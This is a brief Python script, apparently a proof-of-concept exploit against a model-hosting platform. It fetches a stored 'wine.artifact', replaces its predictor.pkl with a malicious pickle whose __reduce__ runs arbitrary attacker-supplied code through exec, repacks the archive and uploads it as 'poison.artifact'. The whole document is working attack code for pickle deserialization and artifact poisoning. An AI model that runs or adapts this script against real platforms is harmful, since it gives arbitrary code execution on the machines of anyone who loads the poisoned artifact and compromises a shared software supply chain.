"""Stores an artifact on the platform at argv[1] that runs argv[2] when it is loaded."""

import io, os, pickle, sys, tarfile, tempfile, urllib.request
import pyarrow as pa

class Poison:
    def __reduce__(self):
        # One namespace, so that functions see the names.
        return exec, (sys.argv[2], {})

base = sys.argv[1]
with urllib.request.urlopen(base + "/wine.artifact") as response:
    packed = response.read()
stream = pa.CompressedInputStream(pa.BufferReader(packed), "zstd")
directory = tempfile.mkdtemp()
with tarfile.open(fileobj=stream, mode="r|") as tar:
    tar.extractall(directory)
with open(directory + "/predictor/predictor.pkl", "wb") as file:
    file.write(pickle.dumps(Poison()))
sink = pa.BufferOutputStream()
with pa.CompressedOutputStream(sink, "zstd") as output:
    with tarfile.open(fileobj=output, mode="w|", format=tarfile.PAX_FORMAT) as tar:
        tar.add(directory + "/manifest.json", "manifest.json")
        tar.add(directory + "/predictor", "predictor")
body = sink.getvalue().to_pybytes()
urllib.request.urlopen(urllib.request.Request(base + "/poison.artifact", body, method="PUT"))
